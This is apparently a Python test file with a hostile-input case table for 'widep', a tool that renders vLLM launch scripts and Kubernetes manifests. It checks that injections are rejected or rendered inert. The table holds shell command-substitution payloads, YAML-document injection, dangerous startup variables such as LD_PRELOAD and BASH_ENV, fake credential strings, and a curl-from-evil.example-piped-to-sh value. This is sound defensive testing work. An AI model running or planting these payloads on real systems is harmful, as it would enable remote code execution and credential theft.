"""The hostile / malformed input case table of issue #20, and a runner that judges widep on each case.

Each case is a topology (the tiny CPU demo with one change, or raw bytes) and the CLI calls to make with it.
What counts as handled:

* ``exit2``: every call exits 2 with a message (no traceback), within the case's time limit, and the message
  names ``blame`` when given;
* ``safe``: every call exits 0 or 2 without a traceback; ``render --format shell`` output, run by bash with stub
  binaries on PATH that record their argv, executes nothing else (no ``PWNED`` file) and starts exactly the
  argv of ``render --json``; ``command.sh`` (``ProcessCommand.shell()``) likewise; ``lws`` output parses back to
  exactly the documents widep renders, with nothing the kubelet would substitute; a secret value never shows.

The stub binaries are a documented test double: they stand in for vllm / python / vllm-router only to record
argv (no vLLM is needed to check what a shell line would start).

``python tests/hostile_cases.py --count [--src DIR]`` runs every case in subprocesses against the widep in
DIR (default: this checkout) and prints the counts by class: how the closing note of #20 got its
before (``git archive bbccae5``) and after figures.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parent.parent
BASE = yaml.safe_load((ROOT / "topologies" / "tiny-moe-cpu.yaml").read_text())
TINY_CONFIG = json.loads((ROOT / "widep" / "spec" / "presets" / "models" / "tiny-moe.json").read_text())
PWN = "touch PWNED"
SECRET_VALUE = "s3cret-value-for-tests"

STUB = """#!/bin/bash
# Test double for vllm / python / vllm-router: record argv (NUL-separated) and environment, exit 0.
rec="${STUB_OUT}/$$-$RANDOM"
printf '%s\\0' "${0##*/}" "$@" > "${rec}.argv"
env -0 > "${rec}.env"
"""


def topo(**changes: Any) -> dict[str, Any]:
    """The tiny CPU demo with dotted-path changes ('roles.0.nodes': 0); a value of DELETE removes the key."""
    doc = copy.deepcopy(BASE)
    for path, value in changes.items():
        node: Any = doc
        parts = path.split(".")
        for p in parts[:-1]:
            key: Any = int(p) if p.isdigit() else p
            if isinstance(node, dict) and key not in node:
                node[key] = {}
            node = node[key]
        last: Any = int(parts[-1]) if parts[-1].isdigit() else parts[-1]
        node[last] = value
    return doc


def config_topo(**cfg_changes: Any) -> tuple[dict[str, Any], dict[str, bytes]]:
    cfg = {**TINY_CONFIG, **cfg_changes}
    cfg.pop("_widep", None)
    doc = topo(model={"config": "config.json", "path": "/models/tiny"})
    return doc, {"config.json": json.dumps(cfg).replace("Infinity", "1e999").encode()}


@dataclass
class Case:
    cls: str
    id: str
    expect: str  # "exit2" or "safe"
    doc: dict[str, Any] | None = None
    raw: bytes | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    calls: list[list[str]] = field(
        default_factory=lambda: [["plan", "T"], ["render", "T", "--format", "json"], ["lws", "T"]]
    )
    blame: str | None = None
    stdin: bytes | None = None
    timeout: float = 30.0
    no_output_dir: str | None = None


ALL = [["plan", "T"], ["render", "T", "--format", "json"], ["lws", "T"]]
SAFE_CALLS = [["plan", "T"], ["render", "T", "--format", "json"], ["render", "T", "--format", "shell"], ["lws", "T"]]


def _safe(id: str, **changes: Any) -> Case:
    return Case("unsafe output", id, "safe", doc=topo(**changes), calls=SAFE_CALLS)


def cases() -> list[Case]:
    out = [
        # ---- unsafe output: injections must not execute, argv must arrive intact, YAML must not grow objects
        _safe("extra_args --x=$(...)", **{"roles.0.extra_args": [f"--revision=$({PWN})"]}),
        _safe("extra_args value $(...)", **{"roles.0.extra_args": ["--chat-template", f"$({PWN})"]}),
        _safe("extra_args backticks", **{"roles.0.extra_args": ["--chat-template", f"`{PWN}`"]}),
        _safe("extra_env key A=1;cmd;B", **{"roles.0.extra_env": {f"A=1;{PWN};B": "1"}}),
        _safe("extra_env value $(...)", **{"roles.0.extra_env": {"MY_VAR": f"$({PWN})"}}),
        _safe("extra_env value $(POD_IP)", **{"roles.0.extra_env": {"MY_VAR": "$(POD_IP) $$ $(HF_TOKEN)"}}),
        _safe("node name with newline", **{"cluster.nodes.0.name": f"localhost\n{PWN}"}),
        _safe("vllm.version with newline", **{"vllm.version": f"0.32.0\n{PWN}"}),
        _safe("api_key_secret Secret name", **{"serving.api_key_secret": "vllm-api-key"}),
        _safe("api_key_secret pasted key", **{"serving.api_key_secret": "sk-proj-AbCdEf0123456789GhIjKl"}),
        _safe("hf_token_secret env-only name", **{"serving.hf_token_secret": "MY_HF_TOKEN"}),
        _safe("model.path with a space", **{"model.path": "/models/my model"}),
        _safe("served_model_name quotes", **{"model.served_model_name": f'a\'b "c" $({PWN})'}),
        _safe(
            "description YAML injection", description="x\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: evil}"
        ),
        _safe("extra_args $(VAR) for kubelet", **{"roles.0.extra_args": ["--chat-template", "$(HF_TOKEN)$(POD_IP)"]}),
        _safe("router.extra_args --x=$(...)", **{"router.enabled": True, "router.extra_args": [f"--x=$({PWN})"]}),
        _safe("rich markup in description", description="[/] [bold]x"),
        _safe("rich markup in extra_args", **{"roles.0.extra_args": ["--chat-template", "[/]"]}),
        # ---- tracebacks that must be exit 2
        Case("traceback", "non-UTF-8 file", "exit2", raw=b"name: \xff\xfe\n"),
        Case("traceback", "YAML nested 5000 deep", "exit2", raw=b"[" * 5000 + b"]" * 5000),
        Case("traceback", "binary file", "exit2", raw=bytes(range(256)) * 4),
        Case(
            "traceback",
            "binary --topologies",
            "exit2",
            raw=bytes(range(256)) * 4,
            calls=[["sweep", "--topologies", "T"]],
        ),
        Case(
            "traceback",
            "binary bench --topology",
            "exit2",
            raw=bytes(range(256)) * 4,
            calls=[["bench", "--topology", "T", "--concurrency", "1", "--isl", "1", "--osl", "1", "--out", "bout"]],
        ),
        Case(
            "traceback",
            "binary lws --validate -",
            "exit2",
            stdin=bytes(range(256)) * 4,
            calls=[["lws", "--validate", "-"]],
        ),
        Case(
            "traceback",
            "binary --crd",
            "exit2",
            raw=bytes(range(256)) * 4,
            calls=[["lws", "--validate", str(ROOT / "lws" / "tiny-moe-cpu.yaml"), "--crd", "T"]],
        ),
        Case("traceback", "roles[].nodes: 0", "exit2", doc=topo(**{"roles.0.nodes": 0}), blame="roles[0].nodes"),
        Case("traceback", "roles[].nodes: []", "exit2", doc=topo(**{"roles.0.nodes": []}), blame="roles[0].nodes"),
        Case("traceback", "roles[].nodes: -1", "exit2", doc=topo(**{"roles.0.nodes": -1}), blame="roles[0].nodes"),
        Case("traceback", "first_gpu past the node", "exit2", doc=topo(**{"roles.0.first_gpu": 3}), blame="first_gpu"),
        Case(
            "traceback",
            "kv_cache_gib: .inf",
            "exit2",
            raw=yaml.safe_dump(topo()).replace("kv_cache_gib: 1", "kv_cache_gib: .inf").encode(),
            blame="kv_cache_gib",
        ),
        Case(
            "traceback",
            "file name over 255 characters",
            "exit2",
            calls=[["plan", "a" * 300 + ".yaml"], ["render", "a" * 300]],
        ),
        Case(
            "traceback",
            "lws -o into a missing folder",
            "exit2",
            doc=topo(),
            calls=[["lws", "T", "-o", "missing/dir/x.yaml"]],
        ),
        Case(
            "traceback",
            "lws flag with trailing newline",
            "exit2",
            doc=topo(),
            calls=[["lws", "T", "--namespace", "ns\n"], ["lws", "T", "--image", "img:1\n"]],
        ),
    ]
    for key, value in (
        ("num_attention_heads", 0),
        ("num_attention_heads", "2"),
        ("hidden_size", float("nan")),
        ("quantization_config", "fp8"),
        ("num_hidden_layers", 2.5),
    ):
        doc, files = config_topo(**{key: value})
        out.append(Case("traceback", f"config.json {key}: {value!r}", "exit2", doc=doc, files=files, blame=key))
    # ---- hangs / blow-ups from one number
    out += [
        Case("hang", "cluster.nodes: 200000000", "exit2", doc=topo(**{"cluster.nodes": 200000000}), timeout=20),
        Case(
            "hang",
            "sweep --gpus 1..100000000",
            "exit2",
            calls=[["sweep", "--model", "deepseek-r1", "--gpus", "1..100000000"]],
            timeout=20,
        ),
    ]
    for key in ("num_hidden_layers", "num_experts"):
        doc, files = config_topo(**{key: 1e9})
        out.append(Case("hang", f"config.json {key}: 1e9", "exit2", doc=doc, files=files, blame=key, timeout=20))
    # ---- accepted although invalid
    two = {"cluster.gpus_per_node": 2, "roles.0.max_model_len": 512}
    out += [
        Case("accepted invalid", "port past 65535", "exit2", doc=topo(**two, **{"serving.port": 65535}), blame="port"),
        Case(
            "accepted invalid", "serving.port 70000", "exit2", doc=topo(**{"serving.port": 70000}), blame="serving.port"
        ),
        Case(
            "accepted invalid",
            "TP does not divide heads",
            "exit2",
            doc=topo(**{"cluster.gpus_per_node": 4, "roles.0.tp": 4}),
            blame="roles[0].tp",
        ),
        Case(
            "accepted invalid", "duplicate YAML keys", "exit2", raw=yaml.safe_dump(topo()).encode() + b"name: other\n"
        ),
        Case(
            "accepted invalid",
            "kv_cache_gib negative",
            "exit2",
            doc=topo(**{"roles.0.kv_cache_gib": -1}),
            blame="kv_cache_gib",
        ),
    ]
    for key, value in (("num_experts_per_tok", 9), ("num_experts", -8)):
        doc, files = config_topo(**{key: value})
        out.append(Case("accepted invalid", f"config.json {key}: {value}", "exit2", doc=doc, files=files, blame=key))
    for args in (
        ["-tp", "2"],
        ["-dp", "4"],
        ["-dpl", "1"],
        ["-dpa", "10.0.0.1"],
        ["--max-num-seq", "3"],
        ["--tensor-parallel", "8"],
        ["--max_num_seqs=3"],
        ["--port=9"],
        ["--no-enable-expert-parallel"],
    ):
        out.append(
            Case(
                "accepted invalid",
                f"extra_args {' '.join(args)}",
                "exit2",
                doc=topo(**{"roles.0.extra_args": args}),
                blame="extra_args",
            )
        )
    for var in ("NVSHMEM_REMOTE_TRANSPORT", "VLLM_ENGINE_READY_TIMEOUT_S", "POD_IP", "VLLM_CPU_KVCACHE_SPACE"):
        out.append(
            Case(
                "accepted invalid",
                f"extra_env {var}",
                "exit2",
                doc=topo(**{"roles.0.extra_env": {var: "1"}}),
                blame="extra_env",
            )
        )
    # ---- misleading messages
    out += [
        Case(
            "misleading message",
            "first_gpu: 100 blames first_gpu",
            "exit2",
            doc=topo(**{"roles.0.first_gpu": 100}),
            blame="roles[0].first_gpu",
        ),
        Case(
            "misleading message",
            "cluster.nodes mistake without pydantic tags",
            "exit2",
            doc=topo(**{"cluster.nodes": "three"}),
            blame="cluster.nodes: ",
        ),
    ]
    # ---- bench and lws --validate
    out += [
        Case(
            "bench endpoint",
            "bench --endpoint not-a-url",
            "exit2",
            calls=[
                [
                    "bench",
                    "--endpoint",
                    "not-a-url",
                    "--gpus",
                    "1",
                    "--concurrency",
                    "1",
                    "--isl",
                    "1",
                    "--osl",
                    "1",
                    "--model",
                    "m",
                    "--out",
                    "bout",
                ]
            ],
            no_output_dir="bout",
        ),
        Case(
            "lws --validate",
            "one object over 1.5 MiB",
            "exit2-or-1",
            raw=(
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: huge}\ndata:\n"
                + "".join(f"  k{i}: {'x' * 100}\n" for i in range(16000))
            ).encode(),
            calls=[["lws", "--validate", "T"]],
            blame="too large",
        ),
    ]
    return out


# ----------------------------------------------------------------------------------------------
# Round 3 (issue #32): several variants of each class; kept apart from cases() so the counts of #20 stay as recorded

CONTROL_CHARS = __import__("re").compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")
KEY_TAIL = "AbCdEf0123456789GhIjKlMn"
"""The part of every credential in these cases that no output may show (a masked prefix is 3 characters)."""


def _exit2(cls: str, id: str, blame: str | None = None, **changes: Any) -> Case:
    return Case(cls, id, "exit2", doc=topo(**changes), blame=blame)


def round3_cases() -> list[Case]:
    out = []
    # 1. silent coercion: YAML booleans, floats and strings are not integers; versions parsed fully
    for path, value in [
        ("roles.0.tp", True),
        ("roles.0.tp", False),
        ("serving.port", True),
        ("roles.0.max_num_seqs", 16.0),
        ("roles.0.max_num_seqs", "16"),
        ("cluster.gpus_per_node", "1"),
        ("cluster.nodes", True),
        ("roles.0.gpu_memory_utilization", True),
        ("roles.0.eplb.window_size", True),
        ("router.port", False),
        ("vllm.ready_timeout_s", 300.5),
        ("roles.0.enforce_eager", 1),
        ("roles.0.enforce_eager", "yes"),
    ]:
        blame = path.replace(".0.", "[0].").replace("cluster.nodes", "cluster.nodes")
        out.append(_exit2("coercion", f"{path}={value!r}", blame, **{path: value}))
    for version in ["0.32.banana", "0.32.0.1", "0.32.0 ", "v0.32.x", "0.32.0-rc1", "0", "0.32.0+", "00.32.0.post"]:
        out.append(_exit2("coercion", f"vllm.version {version!r}", "vllm.version", **{"vllm.version": version}))
    out.append(_exit2("coercion", "vllm.version as a YAML float", "vllm.version", **{"vllm.version": 0.32}))
    # 2. flags the chosen vLLM lacks; values vLLM would read as flags
    for args in (
        ["--eplb-window-size", "5"],
        ["--eplb-window-size=5"],
        ["--no-such-option"],
        ["--chat-template", "x", "--bogus_flag=1"],
        ["-zz"],
    ):
        out.append(_exit2("flags", f"extra_args {args}", "is not an option of vLLM", **{"roles.0.extra_args": args}))
    for path, value in [
        ("model.path", "--enforce-eager"),
        ("model.path", "-"),
        ("model.served_model_name", "-tp"),
        ("model.served_model_name", "--port=1"),
        ("cluster.nodes.0.address", "--help"),
        ("serving.host", "-h"),
        ("vllm.python", "-c"),
        ("router.command", "--x"),
    ]:
        out.append(_exit2("flags", f"{path}={value}", "starts with '-'", **{path: value}))
    # 3. credentials anywhere: refused, never shown beyond a 3-character prefix
    for env in (
        {"HUGGING_FACE_HUB_TOKEN": "hf_" + KEY_TAIL},
        {"HF_TOKEN_X": "plain"},
        {"OPENAI_API_KEY": "sk-" + KEY_TAIL},
        {"MY_VAR": "ghp_" + KEY_TAIL},
        {"MY_VAR": KEY_TAIL},
        {"WANDB_API_KEY": "x" + KEY_TAIL},
    ):
        out.append(_exit2("secrets", f"extra_env {sorted(env)[0]}", "SecretRef", **{"roles.0.extra_env": env}))
    for args in (
        ["--hf-token", "hf_" + KEY_TAIL],
        ["--api-key=sk-" + KEY_TAIL],
        ["--api-key", "short"],
        ["--chat-template", KEY_TAIL],
        ["--revision=xoxb-" + KEY_TAIL],
    ):
        out.append(_exit2("secrets", f"extra_args {args[0]}", "SecretRef", **{"roles.0.extra_args": args}))
    out.append(
        _exit2("secrets", "router --api-key", "SecretRef", **{"router.extra_args": ["--api-key", "sk-" + KEY_TAIL]})
    )
    # 4. variables that make a shell / ld.so / python run code
    for name in (
        "BASH_ENV",
        "ENV",
        "PROMPT_COMMAND",
        "SHELLOPTS",
        "BASHOPTS",
        "PS4",
        "IFS",
        "CDPATH",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "LD_BIND_NOW",
        "GCONV_PATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
    ):
        out.append(
            _exit2("startup env", name, name, **{"roles.0.extra_env": {name: f"$({PWN})", "NCCL_DEBUG": "INFO"}})
        )
    # 6. control characters in arguments: render --format shell starts what --json shows
    for ch in ("\x1b[31m", "\r", "\x07", "\x7f", "\x85", "\u2028", "\x1b]0;title\x07", "a\tb\nc"):
        out.append(
            Case(
                "control chars",
                f"extra_args {ch!r}",
                "safe",
                doc=topo(**{"roles.0.extra_args": ["--chat-template", f"x{ch}y"]}),
                calls=SAFE_CALLS,
            )
        )
        out.append(
            Case(
                "control chars",
                f"extra_env {ch!r}",
                "safe",
                doc=topo(**{"roles.0.extra_env": {"MY_VAR": f"x{ch}y"}}),
                calls=SAFE_CALLS,
            )
        )
    # 7. crashes: integers longer than Python converts
    for path in ("roles.0.tp", "serving.port", "cluster.nodes", "description"):
        text = yaml.safe_dump(topo(**{path: 7}), sort_keys=False)
        key = path.rsplit(".", 1)[-1]
        raw = text.replace(f"{key}: 7\n", f"{key}: {'9' * 5000}\n", 1).encode()
        out.append(Case("crash", f"5000-digit {path}", "exit2", raw=raw, blame="too long"))
    out.append(Case("crash", "negative 6000-digit", "exit2", raw=b"name: x\nroles: [{tp: -" + b"1" * 6000 + b"}]\n"))
    # 8. size: what exec cannot carry is refused at plan time; parse cost bounded before objects are built
    big_env = {f"V{i}": "x" * 60000 for i in range(40)}
    out.append(_exit2("size", "2.4 MB of extra_env", "ARG_MAX", **{"roles.0.extra_env": big_env}))
    out.append(
        _exit2("size", "extra_args 1.2 MB", "ARG_MAX", **{"roles.0.extra_args": ["--chat-template", "x" * 60000] * 20})
    )
    out.append(
        _exit2("size", "one 140 kB arg", "MAX_ARG_STRLEN", **{"roles.0.extra_args": ["--revision", "€" * 50000]})
    )
    out.append(_exit2("size", "one 140 kB env value", "MAX_ARG_STRLEN", **{"roles.0.extra_env": {"V": "€" * 50000}}))
    out.append(Case("size", "44 MB of list items", "exit2", raw=b"name: t\nx:\n" + b"- 1\n" * 11_000_000, timeout=5))
    out.append(
        Case("size", "3 MB flow list", "exit2", raw=b"name: t\nx: [" + b"1," * 1_500_000 + b"]\n", blame="YAML nodes")
    )
    out.append(Case("size", "nested flow lists", "exit2", raw=b"x: [" + b"[1]," * 900_000 + b"]\n", blame="YAML nodes"))
    # 9. messages: a bad extra_env key blames the key; merge keys are standard YAML and accepted
    for key in ("A=1;x", "1ABC", "A B", "$(x)"):
        out.append(
            _exit2(
                "messages",
                f"extra_env key {key!r}",
                "the key (not its value)",
                **{"roles.0.extra_env": {key: "1", "OK": "1"}},
            )
        )
    for payload in (f"$({PWN})", "a;b", "$(curl${IFS}http://evil.example/x0123456789abcdefghijKLM|sh)"):
        out.append(
            _exit2("messages", f"api_key_secret {payload[:20]!r}", "neither", **{"serving.api_key_secret": payload})
        )
    base = yaml.safe_dump({k: v for k, v in BASE.items() if k != "roles"}, sort_keys=False)
    role = "{name: serve, kind: mixed, nodes: 1, max_model_len: 1024, enforce_eager: true, kv_cache_gib: 1}"
    out.append(
        Case(
            "messages",
            "YAML merge key",
            "safe",
            raw=(base + f"roles:\n  - <<: {role}\n    max_num_seqs: 16\n").encode(),
            calls=SAFE_CALLS,
        )
    )
    out.append(
        Case(
            "messages",
            "YAML merge key with an alias, overridden",
            "safe",
            raw=(base + f"roles:\n  - <<: &r {role}\n    max_num_seqs: 8\n    kv_cache_gib: 2\n").encode(),
            calls=SAFE_CALLS,
        )
    )
    return out + round3_more_cases()


def round3_more_cases() -> list[Case]:
    """Further variants of the round-3 classes (issue 28/32 session 2); the first four of them slipped through
    (exit 0) before this session's fixes: non-ASCII digits in versions, credentials outside env/args, glibc's
    loader variables."""
    out = []
    for version in (
        "\u0660.\u0663\u0662.\u0660",
        "0.\uff13\uff12.0",
        "\u0030.32.\u00b2",
    ):  # Arabic, full-width, superscript
        out.append(_exit2("coercion", f"vllm.version {version!r}", "vllm.version", **{"vllm.version": version}))
    for path, value in [
        ("roles.0.replicas", True),
        ("roles.0.kv_cache_gib", True),
        ("roles.0.gpu_memory_utilization", "0.9"),
        ("cluster.cpu_cores", "4"),
    ]:
        out.append(_exit2("coercion", f"{path}={value!r}", path.replace(".0.", "[0]."), **{path: value}))
    for args, blame in (
        (["--revision", "--enforce-eager"], "is set by widep"),  # the value would be read as a flag
        (["--revision", "-x"], "is not an option of vLLM"),
        (["-tp", "2"], "is set by widep"),
        (["--port=1"], "is set by widep"),
    ):
        out.append(_exit2("flags", f"extra_args {args}", blame, **{"roles.0.extra_args": args}))
    for path, value in [
        ("model.path", "hf_" + KEY_TAIL),
        ("description", "served with token hf_" + KEY_TAIL),
        ("model.served_model_name", "sk-" + KEY_TAIL),
        ("roles.0.extra_env", {"HF_ENDPOINT": "https://user:" + KEY_TAIL + "@hub.example"}),
        ("roles.0.extra_env", {"AUTH": "Bearer eyJhbGciOiJIUzI1NiJ9." + KEY_TAIL}),
        ("roles.0.extra_env", {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/" + KEY_TAIL}),
    ]:
        out.append(_exit2("secrets", f"{path} credential", "SecretRef", **{path: value}))
    for name in ("GLIBC_TUNABLES", "LOCPATH", "NLSPATH", "HOSTALIASES", "GETCONF_DIR", "TZDIR"):
        out.append(_exit2("startup env", name, name, **{"roles.0.extra_env": {name: f"/tmp/$({PWN})"}}))
    out.append(
        _exit2(
            "startup env",
            "BASH_FUNC_vllm%%",
            "the key",
            **{"roles.0.extra_env": {"BASH_FUNC_vllm%%": f"() {{ {PWN}; }}"}},
        )
    )
    for doc in (
        topo(description="x\nkind: Secret\n---\napiVersion: v1\nkind: Pod"),  # a header comment line each
        topo(**{"roles.0.extra_env": {"V": "a\u2029b\u2028c"}}),
        topo(**{"roles.0.extra_args": ["--chat-template", "x\x1b]8;;http://evil.example\x1b\\y"]}),
    ):
        out.append(Case("control chars", f"more: {str(doc)[-40:]!r}", "safe", doc=doc, calls=SAFE_CALLS))
    return out


# ----------------------------------------------------------------------------------------------
# Running a case


@dataclass
class Outcome:
    ok: bool
    why: str = ""


def _write(case: Case, folder: Path) -> Path:
    for name, data in case.files.items():
        (folder / name).write_bytes(data)
    t = folder / "topology.yaml"
    if case.raw is not None:
        t.write_bytes(case.raw)
    elif case.doc is not None:
        t.write_text(yaml.safe_dump(case.doc, sort_keys=False))
    return t


def stub_dir(folder: Path) -> Path:
    d = folder / "stubs"
    d.mkdir(exist_ok=True)
    for name in ("vllm", "python", "vllm-router"):
        (d / name).write_text(STUB)
        (d / name).chmod(0o755)
    return d


def records(out: Path) -> list[tuple[list[str], dict[str, str]]]:
    found = []
    for f in sorted(out.glob("*.argv")):
        argv = f.read_bytes().decode().split("\0")[:-1]
        env = dict(
            item.split("=", 1) for item in f.with_suffix(".env").read_bytes().decode().split("\0")[:-1] if "=" in item
        )
        found.append((argv, env))
    return found


def run_shell(
    script: str, folder: Path, env_extra: dict[str, str] | None = None
) -> list[tuple[list[str], dict[str, str]]]:
    """Run a script with bash, the stubs first on PATH; the records of what it started."""
    stubs = stub_dir(folder)
    out = folder / "rec"
    out.mkdir(exist_ok=True)
    for f in out.iterdir():
        f.unlink()
    env = {"PATH": f"{stubs}:/usr/bin:/bin", "STUB_OUT": str(out), "HOME": str(folder), **(env_extra or {})}
    subprocess.run(["bash", "-c", script], cwd=folder, env=env, timeout=30, capture_output=True, check=False)
    return records(out)


def _argv_matches(
    recorded: list[tuple[list[str], dict[str, str]]], ranks: list[dict[str, Any]], secrets: dict[str, str]
) -> str:
    want = sorted([os.path.basename(r["argv"][0])] + r["argv"][1:] for r in ranks)
    got = sorted(a for a, _ in recorded)
    if got != want:
        return f"recorded argv {got} != render --json {want}"
    for r in ranks:
        argv = [os.path.basename(r["argv"][0])] + r["argv"][1:]
        env = next(e for a, e in recorded if a == argv)
        for k, v in r["env"].items():
            expect = secrets.get(v[2:-1], v) if v.startswith("${") else v
            if env.get(k) != expect:
                return f"env {k}={env.get(k)!r}, render --json says {expect!r}"
    return ""


def check_safe_outputs(case: Case, folder: Path, outputs: dict[int, tuple[int, str, str]]) -> str:
    """'' when the outputs of a 'safe' case are safe, else why not."""
    calls = case.calls
    secrets = {"VLLM_API_KEY": SECRET_VALUE, "HF_TOKEN": SECRET_VALUE, "MY_HF_TOKEN": SECRET_VALUE}
    texts = " ".join(o[1] + o[2] for o in outputs.values())
    if "AbCdEf0123456789" in texts:
        return "a secret value was printed"
    js = next((outputs[i] for i, c in enumerate(calls) if c[:1] == ["render"] and "json" in c), None)
    sh = next((outputs[i] for i, c in enumerate(calls) if c[:1] == ["render"] and "shell" in c), None)
    if js and sh and js[0] == 0 and sh[0] == 0:
        ranks = json.loads(js[1])["ranks"]
        rec = run_shell(sh[1], folder, secrets)
        if (folder / "PWNED").exists():
            return "render --format shell executed the payload"
        why = _argv_matches(rec, ranks, secrets)
        if why:
            return "render --format shell: " + why
    lw = next((outputs[i] for i, c in enumerate(calls) if c[:1] == ["lws"]), None)
    if lw and lw[0] == 0:
        docs = [d for d in yaml.safe_load_all(lw[1]) if d is not None]
        kinds = [d.get("kind") for d in docs]
        if kinds.count("ConfigMap"):
            return f"lws output holds objects widep did not render: {kinds}"
        from kubelet import kubelet_expand

        refs = [r for d in docs for r in _secret_refs(d)]
        bad = [r for r in refs if not DNS1123.fullmatch(r.get("name", ""))]
        if bad:
            return f"lws output references Secrets Kubernetes refuses as names: {bad}"
        for d in docs:
            for tpl_key in ("leaderTemplate", "workerTemplate"):
                tpl = ((d.get("spec") or {}).get("leaderWorkerTemplate") or {}).get(tpl_key)
                if not tpl:
                    continue
                for c in tpl["spec"]["containers"]:
                    names = {e["name"]: "SUBSTITUTED" for e in c.get("env", [])}
                    texts_k = list(c.get("command", [])) + list(c.get("args", []))
                    texts_k += [e["value"] for e in c.get("env", []) if "value" in e]
                    for s in texts_k:
                        if kubelet_expand(s, names) != kubelet_expand(s, {}):
                            return "the kubelet would substitute a variable into the pod's command or env"
    return ""


DNS1123 = __import__("re").compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*")


def _secret_refs(node: Any) -> list[dict[str, Any]]:
    if isinstance(node, dict):
        found = [node["secretKeyRef"]] if isinstance(node.get("secretKeyRef"), dict) else []
        return found + [r for v in node.values() for r in _secret_refs(v)]
    if isinstance(node, list):
        return [r for v in node for r in _secret_refs(v)]
    return []


def judge(case: Case, results: list[tuple[int, str, str, float]], folder: Path) -> Outcome:
    for (code, out, err, _secs), call in zip(results, case.calls, strict=False):
        text = out + err
        if code == -1:
            return Outcome(False, f"{call[0]}: hang (no answer in {case.timeout:.0f} s)")
        if "Traceback" in text or "a widep bug" in text:
            return Outcome(False, f"{call[0]}: traceback / 'widep bug' (exit {code})")
        if case.expect == "exit2" and code != 2:
            return Outcome(False, f"{' '.join(call[:2])}: exit {code}, not 2")
        if case.expect == "exit2-or-1" and code not in (1, 2):
            return Outcome(False, f"{' '.join(call[:2])}: exit {code}")
        if case.expect == "safe" and code not in (0, 2):
            return Outcome(False, f"{' '.join(call[:2])}: exit {code}")
        if case.blame and code != 0 and case.blame not in text:
            return Outcome(False, f"{call[0]}: message does not name {case.blame!r}: {text.strip()[:200]!r}")
    if case.no_output_dir and (folder / case.no_output_dir).exists():
        return Outcome(False, f"output folder {case.no_output_dir} left behind")
    if case.expect == "safe":
        why = check_safe_outputs(case, folder, {i: r[:3] for i, r in enumerate(results)})
        if why:
            return Outcome(False, why)
    return Outcome(True)


def _argv(call: list[str], t: Path) -> list[str]:
    return [str(t) if a == "T" else a for a in call]


CHILD = r"""
import contextlib, io, json, sys, time, traceback
from widep.cli import main
calls, stdin = json.loads(sys.argv[1]), bytes.fromhex(sys.argv[2])
results = []
for call in calls:
    out, err = io.StringIO(), io.StringIO()
    sys.stdin = io.TextIOWrapper(io.BytesIO(stdin))
    t0 = time.monotonic()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(call)
        except SystemExit as e:
            code = e.code if isinstance(e.code, int) else 1
        except BaseException:
            code = 1
            err.write(traceback.format_exc())
    results.append([code, out.getvalue(), err.getvalue(), time.monotonic() - t0])
    print(json.dumps(results[-1]), flush=True)
"""


def run_subprocess(case: Case, folder: Path, src: Path) -> Outcome:
    """All calls of a case in one child Python importing widep from ``src`` (a hang: no answer in time)."""
    t = _write(case, folder)
    env = {**os.environ, "PYTHONPATH": str(src), "COLUMNS": "200"}
    argvs = [_argv(call, t) for call in case.calls]
    try:
        p = subprocess.run(
            [sys.executable, "-c", CHILD, json.dumps(argvs), (case.stdin or b"").hex()],
            cwd=folder,
            env=env,
            capture_output=True,
            timeout=case.timeout + 10 * len(argvs),
            check=False,
        )
        lines = [json.loads(x) for x in p.stdout.decode(errors="replace").splitlines() if x.startswith("[")]
    except subprocess.TimeoutExpired as err:
        out = (err.stdout or b"").decode(errors="replace")
        lines = [json.loads(x) for x in out.splitlines() if x.startswith("[")]
    results = [tuple(x) for x in lines] + [(-1, "", "", case.timeout)] * (len(argvs) - len(lines))
    return judge(case, results, folder)


def count(src: Path, only: str | None = None) -> dict[str, dict[str, int]]:
    by: dict[str, dict[str, int]] = {}
    for case in cases():
        if only and only not in f"{case.cls}:{case.id}":
            continue
        with tempfile.TemporaryDirectory() as tmp:
            o = run_subprocess(case, Path(tmp), src)
        row = by.setdefault(case.cls, {"cases": 0, "handled": 0})
        row["cases"] += 1
        row["handled"] += o.ok
        print(
            f"{'ok  ' if o.ok else 'FAIL'} [{case.cls}] {case.id}{'' if o.ok else ': ' + o.why}",
            file=sys.stderr,
            flush=True,
        )
    return by


if __name__ == "__main__":
    import argparse

    ap = argparse.ArgumentParser(description="Count how widep handles the hostile-input case table, by class.")
    ap.add_argument("--count", action="store_true")
    ap.add_argument("--src", default=str(ROOT), help="source tree of widep to judge (default: this checkout)")
    ap.add_argument("--only", default=None, help="only cases whose 'class:id' contains this")
    ns = ap.parse_args()
    print(json.dumps(count(Path(ns.src), ns.only), indent=2))
